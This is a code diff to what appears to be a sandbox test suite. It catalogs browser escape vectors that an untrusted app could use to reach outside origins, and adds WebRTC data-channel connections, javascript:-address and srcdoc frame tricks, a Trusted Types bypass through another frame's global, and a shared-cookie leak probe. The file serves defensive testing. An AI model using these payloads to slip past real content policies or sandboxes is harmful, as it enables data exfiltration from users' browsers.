@@ -1,3 +1,5 @@
+import { connectWith, documentAddress, SRCDOC, writeDocument } from "./webrtc.ts";
+
 /**
  * A way out that an app may try. `script` runs once per outside origin after a real click, with these names in scope: `out`
  * (the outside origin), `site` (the product's origin), `udp` (a port), `leak` (says that a secret was read), `add` (appends an element).
@@ -23,11 +25,6 @@ const requests: Array<Vector> = [
   { name: "WebSocket", script: `new WebSocket(out.replace("http", "ws"))` },
   { name: "EventSource", script: `new EventSource(out + "/events")` },
   { name: "WebTransport", script: `new WebTransport("https://127.0.0.1:" + udp)` },
-  {
-    name: "WebRTC",
-    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }] });
-    p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`,
-  },
   { name: "Cache.add", script: `await (await caches.open("x")).add(out + "/cache")` },
 ];
 
@@ -125,12 +122,6 @@ const detours: Array<Vector> = [
     script: `add("iframe", { srcdoc: "<script>fetch('" + out + "', { mode: 'no-cors' })<\\/script>" })`,
   },
   {
-    name: "WebRTC of a blank frame",
-    script: `const P = add("iframe", {}).contentWindow.RTCPeerConnection;
-    const p = new P({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }] });
-    p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`,
-  },
-  {
     name: "frame navigating to a blob page",
     script: `location = URL.createObjectURL(new Blob(["<script>fetch('" + out + "', { mode: 'no-cors' })<\\/script>"], { type: "text/html" }))`,
   },
@@ -200,6 +191,12 @@ const secrets: Array<Vector> = [
     worksUnguarded: false,
   },
   {
+    name: "cookie for all apps",
+    script: `document.cookie = "shared=1; Domain=apps.localhost; SameSite=None; Secure; Partitioned";
+    if ((await cookieStore.getAll()).some(({ domain }) => domain)) leak("shared cookie")`,
+    worksUnguarded: false,
+  },
+  {
     name: "document.domain",
     script: `document.domain = "localhost"; leak(parent.document.title)`,
     worksUnguarded: false,
@@ -211,8 +208,55 @@ const secrets: Array<Vector> = [
   },
 ];
 
+const frameByIndex = `(add("iframe", {}), window[window.length - 1])`;
+
+/** Packets to an address of the app's choice. Content policies know nothing of them. */
+export const WEBRTC: Array<Vector> = [
+  { name: "WebRTC offer", script: connectWith("RTCPeerConnection") },
+  { name: "WebRTC answer", script: connectWith("RTCPeerConnection", "answer") },
+  { name: "WebRTC candidate", script: connectWith("RTCPeerConnection", "candidate") },
+  { name: "WebRTC by its old name", script: connectWith("webkitRTCPeerConnection") },
+  {
+    name: "WebRTC server",
+    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udp }] });
+    p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`,
+  },
+  { name: "WebRTC in a document of a javascript: address", script: `location = ${documentAddress()}` },
+  { name: "WebRTC in a document behind a comment", script: `location.href = ${documentAddress("//")}` },
+  { name: "WebRTC in a document behind an open comment", script: `location.href = ${documentAddress("<!--")}` },
+  { name: "WebRTC in a document of a link", script: `add("a", { href: ${documentAddress()} }).click()` },
+  { name: "WebRTC in a document of window.open", script: `window.open(${documentAddress()}, "_self")` },
+  {
+    name: "WebRTC in a document that another global sets",
+    script: `const inner = ${frameByIndex};
+    inner.trustedTypes.createPolicy("default", { createScript: (script) => script });
+    const { set } = Object.getOwnPropertyDescriptor(location, "href");
+    inner.Reflect.apply(set, location, [${documentAddress()}])`,
+  },
+  { name: "WebRTC in a srcdoc frame", script: `add("iframe", { srcdoc: ${SRCDOC} })` },
+  { name: "WebRTC of a blank frame", script: connectWith(`add("iframe", {}).contentWindow.RTCPeerConnection`) },
+];
+
+/** The same in frames whose global an app takes by its index, before any script of ours is in it. */
+export const WEBRTC_OF_INNER_FRAMES: Array<Vector> = [
+  ...(["offer", "answer", "candidate"] as const).map((way) => ({
+    name: `WebRTC ${way} of a frame by its index`,
+    script: connectWith(`${frameByIndex}.RTCPeerConnection`, way),
+  })),
+  { name: "WebRTC in a document written into a frame", script: writeDocument(frameByIndex) },
+];
+
 /** Every way out that is tried. */
-export const VECTORS = [...requests, ...resources, ...hints, ...navigations, ...detours, ...secrets];
+export const VECTORS = [
+  ...WEBRTC,
+  ...WEBRTC_OF_INNER_FRAMES,
+  ...requests,
+  ...resources,
+  ...hints,
+  ...navigations,
+  ...detours,
+  ...secrets,
+];
 
 /** The document that tries one way out, when it is clicked. */
 export function attempt(
